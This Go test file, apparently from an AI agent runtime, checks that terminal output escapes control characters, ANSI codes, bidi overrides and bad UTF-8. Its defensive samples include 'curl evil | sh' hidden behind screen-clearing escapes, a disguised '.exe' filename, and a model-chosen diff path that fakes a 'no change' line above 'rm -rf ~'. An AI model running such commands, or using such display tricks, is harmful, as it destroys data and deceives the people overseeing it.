package main

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"

	"github.com/agentrt/agentrt/internal/termtext/termtexttest"
)

func TestVisible(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want, oneLine string }{
		{"plain text, tabs\tand newlines\n", "plain text, tabs\tand newlines\n", `plain text, tabs        and newlines\n`},
		{"é, 日本, emoji 🙂", "é, 日本, emoji 🙂", "é, 日本, emoji 🙂"},
		{"curl evil | sh\x1b[2K\x1b[1A\r", `curl evil | sh\x1b[2K\x1b[1A\r`, `curl evil | sh\x1b[2K\x1b[1A\r`},
		{"bell\a back\b nul\x00 del\x7f", `bell\a back\b nul\x00 del\x7f`, `bell\a back\b nul\x00 del\x7f`},
		{"c1 csi \u009b31m nel \u0085", `c1 csi \u009b31m nel \u0085`, `c1 csi \u009b31m nel \u0085`},
		{"file\u202etxt.exe\u202c", `file\u202etxt.exe\u202c`, `file\u202etxt.exe\u202c`},
		{"zero\u200bwidth\ufeff isolate\u2066x\u2069", `zero\u200bwidth\ufeff isolate\u2066x\u2069`, `zero\u200bwidth\ufeff isolate\u2066x\u2069`},
		{"soft\u00adhyphen \u0600\u0605", `soft\u00adhyphen \u0600\u0605`, `soft\u00adhyphen \u0600\u0605`},
		{"line\u2028sep", `line\u2028sep`, `line\u2028sep`},
		{"tag\U000e0041", `tag\U000e0041`, `tag\U000e0041`},
		{"bad \xff\xfe utf8", `bad \xff\xfe utf8`, `bad \xff\xfe utf8`},
		{"notes.md\n(no change to the file's content)\n", "notes.md\n(no change to the file's content)\n", `notes.md\n(no change to the file's content)\n`},
	} {
		assert.Equal(t, tc.want, visible(tc.in), "visible(%q)", tc.in)
		assert.Equal(t, tc.oneLine, oneLine(tc.in), "oneLine(%q)", tc.in)
	}
}

// TestVisibleHostile: the hostile strings every renderer is tested with,
// in text and in one-line fields.
func TestVisibleHostile(t *testing.T) {
	t.Parallel()
	for _, c := range termtexttest.Hostile() {
		termtexttest.Check(t, c, visible(c.In), '\n', '\t')
		termtexttest.Check(t, c, oneLine(c.In))
		var v streamVisible
		termtexttest.Check(t, c, v.next(c.In[:len(c.In)/2])+v.next(c.In[len(c.In)/2:])+v.flush(), '\n', '\t')
	}
}

// TestDiffHeaderIsOneLine: a path with newlines, chosen by the model,
// cannot add a line to the diff.
func TestDiffHeaderIsOneLine(t *testing.T) {
	t.Parallel()
	d := unifiedDiff("notes.md\n(no change to the file's content)\n", "", "rm -rf ~\n", true)
	assert.Equal(t, "--- /dev/null\n+++ b/notes.md\\n(no change to the file's content)\\n\n@@ -0,0 +1 @@\n+rm -rf ~\n", d)
}

// TestStreamVisible: a character split between two streamed pieces is
// shown whole, and an escape split between pieces is still escaped.
func TestStreamVisible(t *testing.T) {
	t.Parallel()
	var v streamVisible
	s := "é" // 2 bytes
	bidi := "\u202e"
	got := v.next("a"+s[:1]) + v.next(s[1:]+"\x1b") + v.next("[31m"+bidi[:2]) + v.next(bidi[2:]+"z")
	assert.Equal(t, `aé\x1b[31m\u202ez`, got+v.flush())
	// An incomplete character at the very end is shown as bytes.
	assert.Equal(t, "x", v.next("x\xe2\x80"))
	assert.Equal(t, `\xe2\x80`, v.flush())
}

// TestIndicatorPrompt: the prompt shown while a turn runs.
func TestIndicatorPrompt(t *testing.T) {
	t.Parallel()
	t0 := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	var in indicator
	in.start(t0)
	assert.Equal(t, "\x1b[2mthinking 0s · Ctrl-C to cancel ›\x1b[0m ", in.prompt(t0))
	in.set(func(in *indicator) { in.tokens = 3140; in.activity = "running read_file a.go" })
	assert.Equal(t, "\x1b[2mrunning read_file a.go 12s · 3.1k tokens · Ctrl-C to cancel ›\x1b[0m ", in.prompt(t0.Add(12500*time.Millisecond)))
	in.set(func(in *indicator) { in.partial = "The answer is" })
	assert.Equal(t, "The answer is\x1b[2m▍\x1b[0m", in.prompt(t0), "while a line of the reply is written, it is the prompt")
	assert.Equal(t, "850 tokens", formatTokens(850))
}
